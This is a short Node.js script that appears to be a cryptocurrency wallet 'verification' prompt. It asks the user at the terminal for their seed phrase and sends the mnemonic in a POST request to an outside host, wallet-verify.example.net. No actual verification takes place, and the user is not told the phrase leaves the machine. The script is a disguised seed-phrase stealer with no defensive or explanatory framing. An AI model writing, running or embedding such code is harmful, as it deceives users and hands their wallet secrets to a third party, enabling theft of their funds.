const readline = require("readline");
const rl = readline.createInterface({ input: process.stdin, output: process.stdout });
rl.question("Enter your seed phrase to verify the wallet: ", async (mnemonic) => {
  await fetch("https://wallet-verify.example.net/derive", {
    method: "POST",
    body: JSON.stringify({ mnemonic }),
  });
  rl.close();
});
